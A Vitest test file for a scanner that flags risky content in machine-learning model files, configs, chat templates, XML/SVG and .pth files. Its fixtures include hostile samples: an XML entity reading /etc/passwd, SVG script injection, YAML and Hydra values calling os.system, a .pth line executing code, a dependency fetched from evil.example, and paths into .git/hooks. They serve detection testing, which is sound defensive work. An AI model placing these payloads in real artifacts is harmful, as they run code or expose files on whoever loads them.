import { describe, expect, it } from 'vitest';
import { plainTextScanner } from '../../../src/scan/text/plain-text.ts';
import { unknownScanner } from '../../../src/scan/unjudged.ts';
import { scanBytes } from '../../support/scan-bytes.ts';

async function scan(text: string | Uint8Array, file: string) {
  const { verdict, context, format } = await scanBytes(typeof text === 'string' ? Buffer.from(text) : text, file, [
    plainTextScanner,
    unknownScanner,
  ]);
  return {
    verdict,
    checks: context.checks.map(({ id }) => id.replace(/^format\.|\.scan$/g, '')),
    context,
    format: context.format ?? format.id,
  };
}

const MiB = 1024 * 1024;

describe('text of interest', () => {
  it.each([
    ['config.json', '{"a": [{"auto_map": {"AutoModel": "x.Y"}}]}', 'hub-config'],
    ['config.json', '{"\\u0061uto_map": {}}', 'hub-config'],
    ['config.json', '{"trust_remote_code": true}', 'hub-config'],
    ['a.json', '{"layers": [{"class_name": "Lambda"}]}', 'keras-config'],
    ['a.json', '{"py/reduce": []}', 'object-json'],
    ['a.jsonl', '{"a": 1}\n{"auto_map": {}}\n', 'hub-config'],
    ['n.ipynb', '{"cells": [], "nbformat": 4}', 'source-code'],
    ['model_index.json', '{"_class_name": "P", "unet": ["evil", "Net"]}', 'hub-config'],
    ['model_index.json', '{"_class_name": ["pipeline", "P"]}', 'hub-config'],
    ['modules.json', '[{"idx": 0, "type": "evil.T"}]', 'hub-config'],
    ['c.yaml', 'trust_remote_code: True\n', 'hub-config'],
    ['MLmodel', 'flavors:\n  python_function:\n    loader_module: evil\n', 'mlflow'],
    ['requirements.txt', 'torch\n', 'requirements'],
    ['deps.txt', 'evil @ https://evil.example/x.whl\n', 'requirements'],
    ['t.txt', 'You are helpful.\n{% for m in f(messages) %}{{ m }}{% endfor %}', 'chat-template'],
    ['tokenizer_config.json', '{"chat_template": "{{ f(x) }}"}', 'chat-template'],
    ['tokenizer_config.json', '{"chat_template": [{"name": "a", "template": "{{ f(x) }}"}]}', 'chat-template'],
    ['a.json', '{"x": {"_target_": ""}}', 'hydra-config'],
    ['x.py', 'print(1)\n', 'source-code'],
    ['x.txt', '#!/bin/sh\nls\n', 'source-code'],
    ['x.xml', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', 'xml-entities'],
    ['x.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'markup-script'],
    ['x.html', '<html><body onload="x()"></body></html>', 'markup-script'],
  ])('is not assessed: %s with %j', async (file, text, check) => {
    const { verdict, checks } = await scan(text, file);
    expect(checks).toContain(check);
    expect(verdict).toBe('not-assessed');
  });

  it.each([
    ['README.md', '# Use\n`from_pretrained(x, trust_remote_code=True)`; set chat_template: x\n{% raw %}'],
    ['config.json', '{"trust_remote_code": false, "text": "auto_map", "architectures": ["BertModel"]}'],
    ['model_index.json', '{"_class_name": "P", "unet": ["diffusers", "UNet"], "safety_checker": [null, null]}'],
    ['modules.json', '[{"idx": 0, "type": "sentence_transformers.models.Transformer"}]'],
    ['c.yaml', 'trust_remote_code: false\nhidden: 8\n'],
    ['merges.txt', '#version: 0.2\n\u0120 t\n'],
    [
      'x.svg',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>',
    ],
    ['t.csv', 'a,b\n1,2\n'],
    ['t.jinja', 'plain {% for m in messages %}{{ m.content }}{% endfor %}'],
    ['tokenizer_config.json', '{"chat_template": "{{ messages[0].content }}"}'],
    ['empty.py', ''],
  ])('is absent: %s with %j is clean', async (file, text) => {
    expect(await scan(text, file)).toMatchObject({ verdict: 'clean', checks: [] });
  });
});

describe('text that is not what it seems', () => {
  it('is read as UTF-16 like a loader does', async () => {
    expect((await scan(Buffer.from('\ufeff{"auto_map": {}}', 'utf16le'), 'config.json')).checks).toEqual([
      'hub-config',
    ]);
    expect(await scan(Buffer.from('\ufeffa: !!python/name:os.system', 'utf16le'), 'c.yaml')).toMatchObject({
      verdict: 'malicious',
      checks: ['yaml-tags'],
    });
  });

  it('is found across the border of two chunks', async () => {
    const text = `${'#'.repeat(MiB - 10)}\n_target_: os.system\n`;
    expect(await scan(text, 'c.yaml')).toMatchObject({ verdict: 'malicious', checks: ['hydra-config'] });
  });

  it('is unknown when binary data follows', async () => {
    const bytes = Buffer.concat([Buffer.from('words\n'.repeat(300_000)), Buffer.from([0x80, 4, 0, 1, 2])]);
    const { verdict, context } = await scan(bytes, 'x.txt');
    expect(verdict).toBe('unknown');
    expect(context.reasons[0]).toMatch(/^starts as text and continues as binary data, near byte 1\d{6}$/);
  });

  it('is read on when an 8-bit code page follows UTF-8', async () => {
    const bytes = Buffer.concat([
      Buffer.from('words\n'.repeat(300_000)),
      Buffer.from('caf\xe9\n_target_: x\n', 'latin1'),
    ]);
    expect(await scan(bytes, 'x.yaml')).toMatchObject({ verdict: 'not-assessed', checks: ['hydra-config', 'yaml'] });
  });

  it.each([
    ['broken at the start', '{"a": 1,}', 'config.json'],
    ['broken later on', `{"a": "${'x'.repeat(5_000)}",}`, 'config.json'],
    ['truncated', `{"a": ["${'x'.repeat(5_000)}"`, 'notes'],
  ])('is unknown as JSON that is %s', async (_what, text, file) => {
    expect((await scan(text, file)).verdict).toBe('unknown');
  });

  it('has a repeated key reported if loaders act on it', async () => {
    const { verdict, context } = await scan(
      '{"class_name": "Dense", "class_name": "Lambda", "x": 1, "x": 2}',
      'config.json',
    );
    expect([verdict, context.ruleIds()]).toEqual(['suspicious', ['data.json-duplicate-key']]);
  });

  it.each([
    ['an index', 'model.safetensors.index.json', '{"weight_map": {"a": ".git/evil.bin"}}'],
    [
      'an index with an escaped indirect path',
      'x.index.json',
      '{"weight_map": {"a": "x/..//./\\u002egit\\\\hooks/evil"}}',
    ],
    ['a list of modules', 'modules.json', '[{"path": "sub/.git"}]'],
    ['an MLmodel file', 'MLmodel', 'flavors:\n  sklearn:\n    pickled_model: data/.git/model.pkl\n'],
  ])('has a path into the git folder reported in %s', async (_, name, text) => {
    const { verdict, context } = await scan(text, name);
    expect(verdict).toBe('suspicious');
    expect(context.ruleIds()).toContain('data.path-into-git');
  });

  it('has no URL, name or sentence reported as a path into the git folder', async () => {
    const texts = [
      'https://github.com/acme/model.git',
      'https://x.example/.git/config',
      'clone into .git/ first',
      '.gitignore',
      'x.git/y',
    ];
    expect((await scan(JSON.stringify({ texts, '.git/a': 1 }), 'config.json')).context.ruleIds()).toEqual([]);
  });

  it('has a .pth file reported that runs code', async () => {
    expect((await scan('./lib\nimport os;os.system("true")\n', 'x.pth')).context.ruleIds()).toEqual([
      'python.site-file',
    ]);
    expect((await scan('./lib\n', 'x.pth')).context.ruleIds()).toEqual([]);
  });
});
